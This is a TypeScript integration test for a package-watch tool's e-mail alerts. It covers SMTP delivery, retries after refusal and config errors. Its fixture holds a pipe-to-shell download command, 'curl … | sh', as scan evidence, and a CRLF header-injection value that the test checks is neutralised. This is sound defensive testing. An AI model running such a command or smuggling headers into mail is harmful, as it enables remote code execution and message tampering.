/**
 * The e-mail channel against a real SMTP server on loopback: a batch of new events arrives as one
 * message whose subject names the worst severity and whose body links each event to its report;
 * a server that refuses the message or is not there is reported by `watch run`, the events stay
 * unsent and go out on the next round.
 */
import { mkdtempSync, rmSync } from 'node:fs'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { emailSubject, reportLink } from '../../src/watch/email.js'
import { jobKey, type WatchEvent } from '../../src/watch/model.js'
import { WatchStore } from '../../src/watch/store/store.js'
import { cli } from './helpers/cli.js'
import { startSmtpSink, type SmtpSink } from './helpers/smtp.js'

let root: string
let sink: SmtpSink
let db: string
const job = jobKey('npm:fast-glob-x', '4.1.3', 'scan')

/** A port nothing listens on: taken from the system, then released. */
async function closedPort(): Promise<number> {
  const server = createServer()
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
  const address = server.address()
  const port = typeof address === 'object' && address ? address.port : 0
  await new Promise<void>((r) => server.close(() => r()))
  return port
}

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'stagelight-email-'))
  db = join(root, 'watch.sqlite')
  sink = await startSmtpSink()
  const store = await WatchStore.open(db)
  await store.putInventory('web-shop', undefined, 'package-lock.json v3', 'x', [{ ecosystem: 'npm', name: 'fast-glob-x', version: '4.1.3', location: 'node_modules/fast-glob-x', dev: false }])
  // respond knows 4.1.2 from another inventory; no target is watched, so the round polls nothing and needs no registry
  await store.putInventory('api', undefined, 'package-lock.json v3', 'y', [{ ecosystem: 'npm', name: 'fast-glob-x', version: '4.1.2', location: 'node_modules/fast-glob-x', dev: false }])
  await store.enqueue({ key: job, target: 'npm:fast-glob-x', version: '4.1.3', analysis: 'scan' })
  await store.complete(job, undefined, [
    // the message comes from the analysed package: a line break in it must not become a mail header
    { severity: 'critical', ruleId: 'npm/remote-script-install', message: 'postinstall pipes a download into sh\r\nBcc: someone@example.net', evidence: 'curl -s http://x.invalid | sh' },
    { severity: 'medium', ruleId: 'watch/publisher-changed', message: 'published by someone new', evidence: undefined },
    { severity: 'low', ruleId: 'watch/dependency-added', message: 'a new dependency', evidence: undefined },
  ])
  await store.close()
})

afterAll(async () => {
  await sink.close()
  rmSync(root, { recursive: true, force: true })
})

const run = (extra: string[], env: NodeJS.ProcessEnv = {}) => cli(['watch', 'run', '--once', '--db', db, '--cache-dir', join(root, 'cache'), '--notify', 'medium', ...extra], root, env)

describe('e-mail notifications through SMTP', () => {
  it('reports a server that refuses the message, keeps the events, and sends them once it accepts', async () => {
    sink.refuseNext(1)
    const refused = await run(['--email-to', 'security@example.org', '--smtp', sink.url])
    expect(refused.code).toBe(3)
    expect(refused.stderr).toMatch(new RegExp(`watch: e-mail through 127\\.0\\.0\\.1:${sink.port} failed: .*550.*; the events will be sent again`))
    expect(sink.messages).toHaveLength(0)

    const port = await closedPort()
    const absent = await run(['--email-to', 'security@example.org', '--smtp', `smtp://127.0.0.1:${port}`])
    expect(absent.code).toBe(3)
    expect(absent.stderr).toMatch(new RegExp(`watch: e-mail through 127\\.0\\.0\\.1:${port} failed: .*ECONNREFUSED`))

    const sent = await run(['--email-to', 'security@example.org', '--email-to', 'ops@example.org', '--email-from', 'watch@example.org', '--dashboard', 'http://watch.test:8377'], { STAGELIGHT_SMTP_URL: sink.url })
    expect(sent.code, sent.stderr).toBe(0)
    expect(sent.stderr).toContain('2 events sent')
    expect(sink.messages).toHaveLength(1)
    const { envelope, mail } = sink.messages[0]!
    expect(envelope).toEqual({ from: 'watch@example.org', to: ['security@example.org', 'ops@example.org'] })
    expect(mail.subject).toBe('[stagelight] critical: 2 events about npm:fast-glob-x@4.1.3')
    expect(mail.headers.get('x-stagelight-severity')).toBe('critical')
    expect(mail.headers.get('bcc')).toBeUndefined()
    const text = mail.text ?? ''
    // most severe first, each with its report on the dashboard; the low event is below --notify
    expect(text.indexOf('CRITICAL  npm:fast-glob-x@4.1.3')).toBeGreaterThanOrEqual(0)
    expect(text.indexOf('CRITICAL')).toBeLessThan(text.indexOf('MEDIUM'))
    expect(text).not.toContain('a new dependency')
    expect(text).toContain('postinstall pipes a download into sh Bcc: someone@example.net')
    expect(text).toContain('report: http://watch.test:8377/report?job=npm%3Afast-glob-x%7C4.1.3%7Cscan')
    expect(text).toContain('web-shop: fast-glob-x@4.1.3 via fast-glob-x; rollback 4.1.2, fix none known')

    const again = await run(['--email-to', 'security@example.org', '--smtp', sink.url])
    expect(again.code, again.stderr).toBe(0)
    expect(again.stderr).toContain('0 events sent')
    expect(sink.messages).toHaveLength(1)
  })

  it('names the worst severity and the releases in the subject, and links to the report command without a dashboard', () => {
    const event = (severity: WatchEvent['severity'], target: string): WatchEvent => ({ id: target + severity, job: `${target}|1.0.0|scan`, target, version: '1.0.0', analysis: 'scan', severity, ruleId: 'r', message: 'm', evidence: undefined, createdAt: '', notifiedAt: undefined })
    expect(emailSubject([event('medium', 'npm:a'), event('high', 'git:/srv/b'), event('low', 'npm:a')])).toBe('[stagelight] high: 3 events about 2 releases')
    expect(reportLink("npm:it's|1.0.0|scan", undefined)).toBe(`stagelight watch report 'npm:it'\\''s|1.0.0|scan'`)
    expect(reportLink('npm:a|1.0.0|scan', 'https://example.org/watch')).toBe('https://example.org/watch/report?job=npm%3Aa%7C1.0.0%7Cscan')
  })

  it('refuses half an e-mail configuration before touching the store', async () => {
    const noServer = await run(['--email-to', 'security@example.org'])
    expect(noServer.code).toBe(2)
    expect(noServer.stderr).toContain('--email-to needs an SMTP server')
    const noRecipient = await run(['--smtp', sink.url])
    expect(noRecipient.code).toBe(2)
    expect(noRecipient.stderr).toContain('--smtp without --email-to')
    const notSmtp = await run(['--email-to', 'a@example.org', '--smtp', 'http://127.0.0.1:25'])
    expect(notSmtp.code).toBe(2)
    expect(notSmtp.stderr).toContain('must start with smtp:// or smtps://')
  })
})
